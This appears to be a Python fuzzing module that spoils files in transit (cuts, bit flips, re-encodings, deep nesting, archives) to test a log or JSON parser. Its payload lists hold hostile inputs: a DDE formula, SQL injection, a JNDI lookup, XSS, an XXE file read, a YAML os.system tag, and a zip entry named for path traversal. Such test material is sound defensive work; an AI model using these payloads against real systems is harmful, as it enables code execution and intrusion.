"""Spoiling: what can happen to a file on its way, and what somebody hostile would write into it."""

from __future__ import annotations

import codecs
import gzip
import io
import re
import zipfile
from collections.abc import Callable, Sequence
from random import Random

import zstandard

LONG_TEXT = "A" * 1_000_000
_TEXTS = [
    "\u202e\u2066gpj.exe",
    "\x1b]8;;https://x.example\x07click\x1b]8;;\x07\x1b[2J",
    "a\0b",
    "\ud800",
    "\udfff\ud800",
    "",
    " ",
    "=cmd|' /C calc'!A0",
    "'; DROP TABLE event; --",
    "{{7*7}}${jndi:ldap://x.example}",
    "<svg onload=alert(1)>",
    "\ufeff",
    "\u2028",
    "é" * 300,
    "\U000e0041\U0001f3f4",
    "a\u0301" * 200,
    "%00%0a%s%n",
    "{0} {x} }{",
    "[]",
    "{}",
    "null",
    '"',
    "\\",
    "\\u0000",
    "\x9b31m",
    "\u0130stanbul@contoso.example",
    "@",
    "a@b@c",
    "x" * 70_000,
    "::ffff:203.0.113.9",
    "fe80::1%eth0",
    "999.999.999.999",
    "0x7f.1",
    LONG_TEXT,
]
_NUMBERS = [
    b"0",
    b"-0",
    b"-1",
    b"NaN",
    b"Infinity",
    b"-Infinity",
    b"1e999",
    b"-1e-999",
    b"9" * 300_000,
    b"9" * 5000,
    b"18446744073709551616",
    b"9223372036854775807",
    b"-9223372036854775808",
    b"0.1e1",
    b"1.",
    b".5",
    b"0x10",
    b"1_000",
    b"\xd9\xa1\xd9\xa2",
    b"true",
    b"null",
]
_TIMES = [
    b"1601-01-01T00:00:00Z",
    b"9999-12-31T23:59:59.9999999Z",
    b"2016-12-31T23:59:60Z",
    b"0000-00-00T00:00:00Z",
    b"10000-01-01T00:00:00Z",
    b"1970-01-01T00:00:00Z",
    b"1969-12-31T23:59:59Z",
    b"2026-02-30T25:61:61Z",
    b"2026-03-02T09:00:00+99:99",
    b"2038-01-19T03:14:08Z",
    b"2026-03-02",
    b"294247-01-10T04:00:54.775807Z",
    b"-290308-12-21T19:59:05Z",
    b"2026-W10-1",
    b"infinity",
    b"epoch",
    b"",
]
_TOKENS = [
    b"\0",
    b"\n",
    b"\r",
    b"\r\n",
    b'"',
    b"'",
    b"{",
    b"}",
    b"[",
    b"]",
    b",",
    b";",
    b"\t",
    b"\xff\xfe",
    b"\xef\xbb\xbf",
    b"\xc3",
    b"\xed\xa0\x80",
    b"#Fields: a b\n",
    b"<Event>",
    b"</Event>",
    b"<!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/hostname'>]>&b;",
    b"<![CDATA[",
    b"&#0;",
    b"\\ud800",
    b"\\u0000",
    b"PK\x03\x04",
    b"PK\x05\x06",
    b"\x1f\x8b",
    b"\x28\xb5\x2f\xfd",
    b"PAR1",
    b"ElfFile\0",
    b"ElfChnk\0",
    b"**",
    b"LogName=",
    b"---\n",
    b"!!python/object/apply:os.system [id]\n",
    b"&a [*a]",
    b"<<: *x\n",
    b"- " * 40,
    b"\x85",
    b"\xe2\x80\xa8",
    b"\x1a",
    b"\x1b[31m",
    b"\\",
]
_STRING = re.compile(rb'"(?:[^"\\\n]|\\.){0,300}"')
_NUMBER = re.compile(rb"(?<=[:,\s])-?\d{1,20}(?:\.\d+)?(?=[,}\]\s])")
_TIME = re.compile(rb"\d{4}-\d\d-\d\d[T ]\d\d:\d\d(?::\d\d(?:\.\d+)?)?Z?")
_PAIR = re.compile(rb'"(?:[^"\\\n]|\\.){1,80}":\s*(?:"(?:[^"\\\n]|\\.){0,200}"|-?\d+|true|false|null)')

Spoil = Callable[[bytes, Random], bytes]


def _somewhere(content: bytes, pattern: re.Pattern[bytes], given: bytes, chance: Random) -> bytes:
    """The content with one place that the pattern finds, picked by chance, replaced."""
    begin = chance.randrange(len(content) + 1)
    found = pattern.search(content, begin) or pattern.search(content)
    return content if found is None else content[: found.start()] + given + content[found.end() :]


def cut(content: bytes, chance: Random) -> bytes:
    """Ends at any byte."""
    return content[: chance.randrange(len(content) + 1)]


def headless(content: bytes, chance: Random) -> bytes:
    """Begins at any byte."""
    return content[chance.randrange(len(content) + 1) :]


def flip(content: bytes, chance: Random) -> bytes:
    """Some bits are turned."""
    spoiled = bytearray(content)
    for _ in range(chance.choice((1, 1, 2, 8, 64)) if spoiled else 0):
        spoiled[chance.randrange(len(spoiled))] ^= 1 << chance.randrange(8)
    return bytes(spoiled)


def hole(content: bytes, chance: Random) -> bytes:
    """Something is missing, or is zeros, or noise, or there twice."""
    begin = chance.randrange(len(content) + 1)
    end = min(len(content), begin + chance.choice((1, 7, 100, 4096)))
    gone = content[begin:end]
    given = chance.choice((b"", bytes(len(gone)), chance.randbytes(len(gone)), gone * 2, gone[::-1]))
    return content[:begin] + given + content[end:]


def token(content: bytes, chance: Random) -> bytes:
    """Something with a meaning stands where it should not."""
    at = chance.randrange(len(content) + 1)
    return content[:at] + chance.choice(_TOKENS) * chance.choice((1, 1, 1, 300)) + content[at:]


def text(content: bytes, chance: Random) -> bytes:
    """A text in quotes becomes another, escaped as JSON does it or not at all."""
    wanted = chance.choice(_TEXTS)
    if chance.random() < 0.3:
        return _somewhere(content, _STRING, b'"' + wanted.encode("utf-8", "surrogatepass") + b'"', chance)
    escaped = wanted.encode("utf-16-le", "surrogatepass")
    units = [int.from_bytes(escaped[n : n + 2], "little") for n in range(0, len(escaped), 2)]
    ordinary = wanted.isascii() and wanted.isprintable() and not set('"\\') & set(wanted)
    inside = wanted if ordinary else "".join(f"\\u{unit:04x}" for unit in units)
    return _somewhere(content, _STRING, f'"{inside}"'.encode(), chance)


def number(content: bytes, chance: Random) -> bytes:
    """A number becomes one that nobody expects."""
    return _somewhere(content, _NUMBER, chance.choice(_NUMBERS), chance)


def moment(content: bytes, chance: Random) -> bytes:
    """A time becomes one of another age, or none."""
    for _ in range(chance.choice((1, 1, 5))):
        content = _somewhere(content, _TIME, chance.choice(_TIMES), chance)
    return content


def nest(content: bytes, chance: Random) -> bytes:
    """A value becomes lists in lists, closed or not."""
    depth = chance.choice((90, 101, 130, 1_000, 60_000))
    opened, closed = chance.choice(((b"[", b"]"), (b'{"a":', b"}")))
    return _somewhere(content, _STRING, opened * depth + b"1" + closed * chance.choice((depth, depth, 0)), chance)


def twice(content: bytes, chance: Random) -> bytes:
    """A key is there twice, with another value."""
    begin = chance.randrange(len(content) + 1)
    found = _PAIR.search(content, begin) or _PAIR.search(content)
    if found is None:
        return content
    key = found[0].split(b'":')[0] + b'":'
    given = chance.choice((b"null", b"[]", b"{}", b"1", b'"x"', b"[null]", b'{"$numberLong":"1"}'))
    return content[: found.end()] + b"," + key + given + content[found.end() :]


def other_type(content: bytes, chance: Random) -> bytes:
    """A value becomes one of another type."""
    given = chance.choice(
        (b"null", b"[]", b"{}", b"1", b"true", b'""', b'["a","b"]', b'{"a":null}', b"[[]]", b"[1,{}]")
    )
    return _somewhere(content, _STRING, given, chance)


def shuffled(content: bytes, chance: Random) -> bytes:
    """Lines are out of order, some are there twice."""
    lines = content.splitlines(keepends=True)[:5000]
    chance.shuffle(lines)
    return b"".join(lines + lines[: chance.randrange(3)])


def recoded(content: bytes, chance: Random) -> bytes:
    """Another encoding, with or without its mark, or a mark that lies."""
    plain = content.decode("utf-8", "replace")
    way = chance.randrange(6)
    if way < 4:
        encoding = ("utf-16", "utf-16-be", "utf-32", "latin-1")[way]
        return plain.encode(encoding, "replace")
    return chance.choice((codecs.BOM_UTF8, codecs.BOM_UTF16_LE, codecs.BOM_UTF32_LE)) + content


def other_ends(content: bytes, chance: Random) -> bytes:
    """Lines end otherwise."""
    return content.replace(b"\n", chance.choice((b"\r", b"\r\n", b"\n\n", b"\0", b"\x0b", b"", b"\n\r")))


GENERAL: tuple[Spoil, ...] = (cut, headless, flip, hole, token)
TEXTUAL: tuple[Spoil, ...] = (
    *GENERAL,
    text,
    text,
    number,
    moment,
    moment,
    nest,
    twice,
    other_type,
    other_type,
    shuffled,
    recoded,
    other_ends,
)


def spoiled(content: bytes, chance: Random, ways: Sequence[Spoil] = TEXTUAL) -> bytes:
    """The content after one to four things happened to it."""
    for _ in range(chance.choice((1, 1, 2, 4))):
        content = chance.choice(ways)(content, chance)
    return content


def packed(content: bytes, chance: Random) -> bytes:
    """The content in up to four archives, any of which may be spoiled too."""
    for _ in range(chance.choice((1, 1, 2, 4))):
        content = chance.choice((gzip.compress, zstandard.ZstdCompressor().compress, zipped))(content)
        if chance.random() < 0.4:
            content = spoiled(content, chance, GENERAL)
    return content


def zipped(content: bytes) -> bytes:
    """A zip archive with the content under two names that a careless program would write outside its folder."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("../../\x1b[31m\u202elog", content)
        archive.writestr("a/b", content[:2000])
    return out.getvalue()
